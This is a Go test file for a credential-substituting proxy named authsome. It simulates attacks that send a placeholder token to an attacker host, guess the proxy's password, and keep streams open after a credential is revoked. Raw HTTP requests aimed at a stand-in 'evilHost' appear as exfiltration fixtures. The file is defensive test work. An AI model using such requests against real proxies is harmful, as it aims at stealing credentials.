package attack_test

import (
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"authsome"
)

// 26: the placeholder is sent to where the attacker sees it.
func placeholderElsewhere(t *testing.T) {
	w := newWorld(t, setup{hostURL: "https://" + victimHost + "/v1"})
	r := w.run(t)
	if d := r.order(t, nil, "env"); d.Code != 0 || strings.Contains(d.Output+strings.Join(r.names, "\n"), w.secret) {
		t.Fatal("the child's environment holds the secret")
	}
	placeholder := r.env["VICTIM_KEY"]
	if placeholder != authsome.Placeholder {
		t.Fatalf("the child's environment holds %q", placeholder)
	}
	body := "POST / HTTP/1.1\r\nHost: " + evilHost + "\r\nAuthorization: Bearer " + placeholder + "\r\nContent-Length: 22\r\n\r\n" + placeholder
	s, err := r.inside(t, evilHost+":443", evilHost)
	if err != nil {
		t.Fatal(err)
	}
	s.ask(t, body).expect(t, "the attacker's host", http.StatusOK)
	w.evil.ignorant(t, w.secret)
	// Where it would arrive at the provider itself, but on a path, in a field or in a form that no credential is for, it
	// is held back and written down.
	for _, bytes := range []string{
		get("/other", "Authorization: Bearer "+placeholder+"\r\n"), get("/v1/x?key="+placeholder, ""),
		get("/v1/x", "X-Forwarded-Key: "+placeholder+"\r\n"), get("/v1/"+placeholder, ""),
	} {
		a := r.victim(t).ask(t, bytes)
		a.expect(t, bytes, http.StatusForbidden)
		if a.reason() != "placeholder" {
			t.Errorf("%s was refused for another reason: %s", bytes, a)
		}
	}
	w.victim.untouched(t)
	r.end()
	if log := w.home.Must(t, "log", "--json", "-n", "50"); !strings.Contains(log, `"reason":"placeholder"`) {
		t.Errorf("the attempts are not in the audit log: %s", log)
	}
}

// 27: the placeholder stands in a body that the provider stores and shows to everybody.
func placeholderInBody(t *testing.T) {
	w := newWorld(t, setup{})
	r := w.run(t)
	const body = `{"title": "my key is ` + authsome.Placeholder + `"}`
	for _, http2 := range []bool{false, true} {
		fetch(t, r.transport(t, http2), "POST", "https://"+victimHost+"/issues", strings.NewReader(body), nil).
			expect(t, "POST", http.StatusOK)
	}
	for _, n := range w.victim.seen() {
		if n.Body != body {
			t.Errorf("the provider got the body %s", n.Body)
		}
	}
	r.end()
	if log := w.home.Must(t, "log", "--json", "-n", "50"); strings.Count(log, `"event":"placeholder"`) != 2 {
		t.Errorf("the attempts are not in the audit log: %s", log)
	}
}

// 28: the password of the proxy is guessed, left out, or used after its run.
func proxyPassword(t *testing.T) {
	w := newWorld(t, setup{})
	r, other := w.run(t), w.run(t)
	address := r.proxy(t).Host
	if host, _, err := net.SplitHostPort(address); err != nil || !net.ParseIP(host).IsLoopback() {
		t.Fatalf("the proxy listens on %s", address)
	}
	if r.proxy(t).User.String() == other.proxy(t).User.String() {
		t.Fatal("two runs have the same password")
	}
	for _, user := range []*url.Userinfo{
		nil, other.proxy(t).User, url.User("authsome"), url.UserPassword("authsome", ""), url.UserPassword("", ""),
	} {
		field := ""
		if user != nil {
			field = "Proxy-Authorization: " + basic(user) + "\r\n"
		}
		for _, bytes := range []string{
			"CONNECT " + victimHost + ":443 HTTP/1.1\r\nHost: " + victimHost + ":443\r\n" + field + "\r\n",
			"CONNECT " + evilHost + ":443 HTTP/1.1\r\nHost: " + evilHost + ":443\r\n" + field + "\r\n",
			"GET http://" + evilHost + "/ HTTP/1.1\r\nHost: " + evilHost + "\r\n" + field + "\r\n",
		} {
			r.dial(t).ask(t, bytes).expect(t, bytes, http.StatusProxyAuthRequired)
		}
		if user == nil {
			user = new(url.Userinfo)
		}
		if _, code := r.socks(t, user, 1, evilHost+":443"); code != socksNoAnswer {
			t.Fatalf("SOCKS with %s was answered %d", user, code)
		}
	}
	w.victim.untouched(t)
	r.end()
	if conn, err := net.Dial("tcp", address); err == nil {
		_ = conn.Close()
		t.Error("the proxy is there after its run")
	}
	w.stolenPassword(t)
}

// 29: the connection is revoked while streams that use it are open.
func revokedWhileOpen(t *testing.T) {
	ended := make(chan struct{}, 8)
	w := newWorld(t, setup{victim: func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path != pathEndless {
			return
		}
		_, _ = io.WriteString(rw, "data: 1\n\n")
		_ = http.NewResponseController(rw).Flush()
		<-r.Context().Done()
		ended <- struct{}{}
	}})
	r := w.run(t)
	type stream struct {
		name string
		end  chan error
	}
	var streams []stream
	for name, http2 := range map[string]bool{"HTTP/1.1": false, "HTTP/2": true} {
		req, err := http.NewRequestWithContext(t.Context(), "GET", "https://"+victimHost+pathEndless, nil)
		if err != nil {
			t.Fatal(err)
		}
		resp, err := r.transport(t, http2).RoundTrip(req)
		if err != nil {
			t.Fatal(err)
		}
		s := stream{name, make(chan error, 1)}
		go func() {
			_, err := io.Copy(io.Discard, resp.Body)
			_ = resp.Body.Close()
			s.end <- err
		}()
		streams = append(streams, s)
	}
	bystander, err := r.inside(t, evilHost+":443", evilHost)
	if err != nil {
		t.Fatal(err)
	}
	w.home.Must(t, "logout", "victim")
	for _, s := range streams {
		if err := await(t, "the stream over "+s.name, s.end); err == nil {
			t.Errorf("the stream over %s ended as if it were complete", s.name)
		}
		await(t, "the request upstream", ended)
	}
	before := len(w.victim.seen())
	a := r.victim(t).ask(t, get("/", ""))
	a.expect(t, "a request without a connection", http.StatusBadGateway, http.StatusForbidden)
	if !strings.Contains(a.body, "authsome login victim") {
		t.Errorf("the refusal does not say what to do: %s", a)
	}
	if len(w.victim.seen()) != before {
		t.Error("a request went out")
	}
	bystander.ask(t, "GET / HTTP/1.1\r\nHost: "+evilHost+"\r\n\r\n").expect(t, "a tunnel of somebody else", http.StatusOK)
	r.end()
	w.home.MustWith(t, w.secret, "login", "victim", "--with-token")
	w.revokedAgent(t)
}
